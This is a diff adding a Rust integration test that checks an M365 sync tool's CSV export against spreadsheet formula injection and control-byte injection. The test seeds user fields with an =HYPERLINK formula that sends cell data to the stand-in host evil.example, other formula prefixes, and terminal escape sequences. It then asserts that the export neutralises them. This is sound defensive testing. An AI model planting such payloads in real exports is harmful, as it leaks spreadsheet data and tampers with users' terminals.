@@ -767,3 +767,95 @@ async fn runs_of_a_connection_that_never_was_is_an_error_naming_those_there_are(
     assert_eq!(kept.status.code(), Some(0), "{:?}", text(&kept));
     assert!(text(&kept).0.contains("· contoso ·"), "{:?}", text(&kept));
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn csv_exports_carry_no_formula_and_no_control_byte() {
+    let sim = sim(4).await;
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("store.db");
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    let http = reqwest::Client::new();
+    let patch = |index: u64, body: Value| {
+        let request = http
+            .patch(format!("{}/_sim/tenants/0/users/{index}", sim.url))
+            .json(&body)
+            .send();
+        async move {
+            let answer = request.await.unwrap();
+            assert!(answer.status().is_success(), "{}", answer.status());
+        }
+    };
+    patch(
+        0,
+        serde_json::json!({ "displayName": hyperlink, "department": "-2+3", "mobilePhone": "@SUM(1+1)" }),
+    )
+    .await;
+    patch(
+        1,
+        serde_json::json!({ "displayName": "Esc\u{1b}]0;owned\u{7}aped\u{0}", "department": "\u{9b}31mred\u{7f}", "mobilePhone": "+1 555 0100" }),
+    )
+    .await;
+    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
+    let synced = m365sync(&db, &["sync", "contoso"], &[]);
+    assert!(synced.status.success(), "{:?}", text(&synced));
+
+    let exported = m365sync(&db, &["export", "contacts", "--format", "csv"], &[]);
+    assert!(exported.status.success(), "{:?}", text(&exported));
+    let csv = String::from_utf8(exported.stdout).unwrap();
+    for cells in [
+        r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","#,
+        ",'-2+3,",
+        ",'@SUM(1+1),",
+        ",Esc]0;ownedaped,",
+        ",31mred,",
+        ",'+1 555 0100,",
+    ] {
+        assert!(csv.contains(cells), "{cells:?} not in\n{csv}");
+    }
+    for kind in ["contacts", "mailboxes", "organizations", "licenses"] {
+        let exported = m365sync(&db, &["export", kind, "--format", "csv"], &[]);
+        assert!(exported.status.success(), "{kind}: {:?}", text(&exported));
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(exported.stdout.as_slice());
+        let mut rows = 0;
+        for record in reader.records() {
+            rows += 1;
+            for cell in &record.unwrap() {
+                let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+                assert!(!formula, "{kind}: {cell:?}");
+                assert!(
+                    !cell
+                        .chars()
+                        .any(|c| c.is_control() && c != '\n' && c != '\t'),
+                    "{kind}: {cell:?}"
+                );
+            }
+        }
+        assert!(rows > 1, "{kind}");
+    }
+
+    // JSON stays exact.
+    let json = m365sync(&db, &["export", "contacts"], &[]);
+    let contacts: Value = serde_json::from_slice(&json.stdout).unwrap();
+    let names: Vec<&str> = contacts
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["display_name"].as_str().unwrap())
+        .collect();
+    assert!(names.contains(&hyperlink), "{names:?}");
+    assert!(
+        names.contains(&"Esc\u{1b}]0;owned\u{7}aped\u{0}"),
+        "{names:?}"
+    );
+    assert!(
+        contacts
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["department"] == "\u{9b}31mred\u{7f}"),
+        "{contacts}"
+    );
+}
